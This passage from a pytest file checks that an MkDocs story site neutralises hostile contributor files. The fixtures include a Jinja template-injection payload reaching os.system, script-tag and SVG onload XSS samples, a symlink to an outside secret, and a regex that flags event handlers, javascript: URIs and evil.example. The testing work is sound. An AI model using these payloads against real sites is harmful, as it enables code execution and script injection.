    stories = {name: (HOSTILE / "stories" / name).read_text(encoding="utf-8") for name in BUILT_STORIES}
    make_project(root, {"park-story.md": VALID_STORY, **stories})
    shutil.copy(HOSTILE / "resources" / "resource-quotes-and-links.md", root / "resources")
    shutil.copy(HOSTILE / "stories" / "media" / "park.png", root / "stories" / "media" / "park.png")
    secret = write(tmp_path_factory.mktemp("outside") / "secret.png", b"\x89PNG secret")
    (root / "stories" / "media" / "stolen.png").symlink_to(secret)
    payload = "---\nrender_macros: true\n---\n{{ cycler.__init__.__globals__.os.system('touch pwned-by-media') }}\n"
    write(root / "stories" / "media" / "page.md", payload)
    write(root / "stories" / "media" / "page.html", "<script>alert(document.domain)</script>\n")
    write(root / "resources" / "files" / "canvas.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n')
    write(root / "resources" / "media" / "page.md", payload)
    calls = build_in_process(root)
    return root, calls


def page(root: Path, url: str) -> str:
    return (root / "site" / url / "index.html").read_text(encoding="utf-8")


def test_macros_plugin_never_sees_a_story_or_resource(hostile_site):
    root, calls = hostile_site
    seen = {src: (markdown, meta) for event, src, markdown, meta in calls if event == "page_markdown"}
    assert "{{ recent_stories(4) }}" in seen["index.md"][0]  # the spy works: it saw our own page
    contributed = [f"stories/{name[:-3]}.md" for name in ["park-story.md", *BUILT_STORIES]]
    contributed.append("resources/resource-quotes-and-links.md")
    for src in contributed:
        markdown, meta = seen[src]
        assert markdown.strip() == "", src  # no contributor text reaches MkDocs' Markdown or macros
        assert "render_macros" not in meta and set(meta) <= {"title", "description", "dw_language", "dw_head_meta"}, src
    assert not any(src.startswith(("stories/media/", "resources/media/")) for src in seen)
    for marker in MARKERS:
        assert not (root / marker).exists(), marker


def test_template_payloads_in_code_are_published_as_text(hostile_site):
    root, _ = hostile_site
    assert (
        "<code>{{ cycler.__init__.__globals__.os.system('touch pwned-by-code-span') }}</code>"
        in page(root, "stories/templates-in-code-spans")
    )


@pytest.mark.parametrize("name", BUILT_STORIES)
def test_built_story_body_is_exactly_the_rendered_html(hostile_site, name):
    root, _ = hostile_site
    body = RENDERED[f"stories/{name}"]
    assert f'<div class="dw-story__body">{body}</div>' in page(root, f"stories/{name[:-3]}")


def test_only_real_media_of_allowed_types_is_published(hostile_site):
    root, _ = hostile_site
    site = root / "site"
    assert sorted(p.name for p in (site / "stories" / "media").iterdir()) == ["park.png"]
    assert not (site / "resources" / "files" / "canvas.svg").exists()
    assert not (site / "resources" / "media").exists()
    assert not any(site.rglob("page.html")) and not (site / "stories" / "media" / "page").exists()


TITLE = "Tom &amp; Jerry&#x27;s &quot;park&quot; &lt;3 &gt; plan [x](missing.md) &amp;amp; *more*"
SUMMARY = (
    "Parents, children and council officers planned a new play park together, and the residents&#x27; "
    "group &amp; &quot;friends&quot; &lt;3 it; &amp;lt;b&amp;gt;not bold&amp;lt;/b&amp;gt;."
)
EVIDENCE = "Residents&#x27; &quot;own&quot; survey &amp; workshops; &#x27;quoted&#x27; &lt;3 &gt;."
CARD = (
    '<li class="dw-card"><h3 class="dw-card__title"><a href="{href}">' + TITLE + "</a></h3>"
    '<p class="dw-card__meta">Fermanagh and Omagh (Northern Ireland) · 2021 to now</p>'
)


def test_every_front_matter_value_is_escaped_on_the_story_page(hostile_site):
    root, _ = hostile_site
    html = page(root, "stories/quotes-and-ampersands")
    assert f"<title>{TITLE} - Doing With</title>" in html
    assert f'<meta name="description" content="{SUMMARY}">' in html
    assert f'<h1 id="quotes-and-ampersands" data-pagefind-meta="title">{TITLE}</h1>' in html
    assert f'<p class="dw-summary" data-pagefind-meta="summary">{SUMMARY}</p>' in html
    header = re.search(r'data-md-component="header-topic">\s*<span class="md-ellipsis">\s*(.*?)\s*</span>', html)
    assert header.group(1) == TITLE
    assert f"<dd>{EVIDENCE}</dd>" in html
    assert f"<p>Test Author, Greenfield Residents Group (2026). {TITLE}. Doing With:" in html
    assert 'href="missing.md"' not in html and "<em>more</em>" not in html


def test_every_front_matter_value_is_escaped_on_cards_and_lists(hostile_site):
    root, _ = hostile_site
    summary = f'<p class="dw-card__summary">{SUMMARY}</p></li>'
    evidence = f'<p class="dw-card__evidence"><strong>How it shows this:</strong> {EVIDENCE}</p></li>'
    listed = (
        f'<h2 class="dw-card__title"><a href="quotes-and-ampersands/">{TITLE}</a></h2>'
        '<p class="dw-card__meta">Fermanagh and Omagh (Northern Ireland) · When: 2021 to now · Last reviewed '
        f'<time datetime="2026-06-01">1 June 2026</time></p><p class="dw-card__summary">{SUMMARY}</p>'
    )
    assert listed in page(root, "stories")  # every story, as cards
    for url in ("places/fermanagh-and-omagh", "nations/northern-ireland", "themes/children-and-young-people"):
        assert CARD.format(href="../../stories/quotes-and-ampersands/") + summary in page(root, url), url
    assert CARD.format(href="../../stories/quotes-and-ampersands/") + evidence in page(root, "principles/people-as-assets")


def test_every_front_matter_value_is_escaped_on_the_resource_pages(hostile_site):
    root, _ = hostile_site
    title = "Tom &amp; Jerry&#x27;s &quot;canvas&quot; &lt;3 &gt; plan"
    publisher = "O&#x27;Neill &amp; &quot;Sons&quot;"
    html = page(root, "resources/resource-quotes-and-links")
    assert f"<title>{title} - Doing With</title>" in html
    assert f'<h1 id="resource-quotes-and-links" data-pagefind-meta="title">{title}</h1>' in html
    assert (
        '<a class="md-button md-button--primary" href="https://example.org/canvas" rel="noopener noreferrer">'
        f"Go to {title} on the publisher's site</a>"
    ) in html
    assert f"<dt>Publisher</dt><dd>{publisher}</dd>" in html
    assert f'<div class="dw-resource__body">{RENDERED["resources/resource-quotes-and-links.md"]}</div>' in html
    assert (
        f'<a href="resource-quotes-and-links/">{title}</a></h3><p class="dw-card__meta">Template · Web page · {publisher}</p>'
    ) in page(root, "resources")


def test_no_built_page_carries_script_from_a_contributor(hostile_site):
    root, _ = hostile_site
    articles = 0
    for path in (root / "site").rglob("*.html"):
        html = path.read_text(encoding="utf-8")
        for article in re.findall(r'<article class="dw-(?:story|resource)".*?</article>', html, re.S):
            articles += 1
            tags = re.findall(r"<[A-Za-z][^>]*>", article)
            assert not [t for t in tags if re.search(r"\son[a-z]+\s*=|javascript:|data:|evil\.example", t, re.I)], path
            assert all('rel="noopener noreferrer"' in a for a in re.findall(r"<a\b[^>]*\bhref=\"(?:https?|mailto):[^>]*>", article))
    assert articles >= len(BUILT_STORIES) + 1 + 16  # our stories, the park story, the real resources


def test_failed_check_stops_the_build_with_exact_messages_and_leaves_site_alone(tmp_path):
    rejected = [
        "stories/jinja-writes-a-file.md",
        "stories/jinja-reads-the-environment.md",
        "stories/python-tags.md",
        "stories/alias-bomb.md",
        "stories/script-in-title.md",
        "resources/resource-templates.md",
    ]
    root = make_project(tmp_path, {"park-story.md": VALID_STORY})
    for name in rejected:
        shutil.copy(HOSTILE / name, root / name)
    (root / "stories" / "linked-story.md").symlink_to(root / "stories" / "park-story.md")
    write(root / "site" / "index.html", "the site as it was\n")
    result = build(root)
    assert result.returncode == 1
    expected = [f"{name}:{line}:{col}: {message}" for name in rejected for line, col, message in REJECTED[name]]
    expected.append("stories/linked-story.md:1:1: this story file is a link to another file; commit the real file instead")
    reported = [line for line in result.stderr.splitlines() if re.match(r"^(stories|resources)/\S+:\d+:\d+: ", line)]
    assert sorted(reported) == sorted(expected)
    assert f"{len(expected)} problems in {len(rejected) + 1} files" in result.stderr
    assert [p.name for p in (root / "site").iterdir()] == ["index.html"]
    assert (root / "site" / "index.html").read_text() == "the site as it was\n"
    for marker in MARKERS:
        assert not (root / marker).exists(), marker


def test_check_fails_in_on_config_before_any_plugin_runs_or_site_dir_exists(tmp_path, caplog):
    root = make_project(tmp_path, {"park-story.md": VALID_STORY})
    shutil.copy(HOSTILE / "stories" / "jinja-writes-a-file.md", root / "stories")
    with caplog.at_level(logging.ERROR, logger="mkdocs"), pytest.raises(Abort):
        calls = []
        config = load_config(config_file=str(root / "mkdocs.yml"))
        calls = spy_on_plugin(config, "macros")
        mkdocs_build(config)
    assert calls == []  # not even the macros plugin's own on_config ran
    assert not Path(config.site_dir).exists()
    assert "stories/jinja-writes-a-file.md:39:1: " + RENDER_MACROS in caplog.text
    assert not (root / "pwned-by-jinja").exists() and not (Path.cwd() / "pwned-by-jinja").exists()


def test_make_build_moves_the_site_into_place_only_when_the_build_succeeds(tmp_path):
    """The real `make build`, with the real MkDocs and Pagefind: a failed build leaves the
    published site/ as it was; a good one replaces it whole, search index included."""
    root = make_project(tmp_path, {"park-story.md": VALID_STORY})
    for name in ("Makefile", "pyproject.toml"):
        shutil.copy(REPO / name, root / name)
    (root / ".venv").symlink_to(REPO / ".venv")  # set up already (make test made it)
    os.utime(root / "pyproject.toml", (1_000_000_000, 1_000_000_000))  # older than the set-up
    write(root / "site" / "index.html", "the site as it was\n")

    write(root / "stories" / "broken.md", VALID_STORY.replace("nation: northern-ireland", "nation: atlantis"))
    failed = subprocess.run(["make", "build"], cwd=root, capture_output=True, text=True, timeout=300)
    assert failed.returncode != 0
    assert "stories/broken.md:" in failed.stdout + failed.stderr
    assert sorted(p.name for p in (root / "site").iterdir()) == ["index.html"]  # untouched
    assert (root / "site" / "index.html").read_text() == "the site as it was\n"

    (root / "stories" / "broken.md").unlink()
    built = subprocess.run(["make", "build"], cwd=root, capture_output=True, text=True, timeout=300)
    assert built.returncode == 0, built.stdout + built.stderr
    assert "Residents and the council redesign a play park" in (root / "site" / "index.html").read_text()
    assert (root / "site" / "pagefind" / "pagefind.js").is_file()
    assert (root / "site" / "stories" / "park-story" / "index.html").is_file()
    assert not (root / ".site-new").exists()
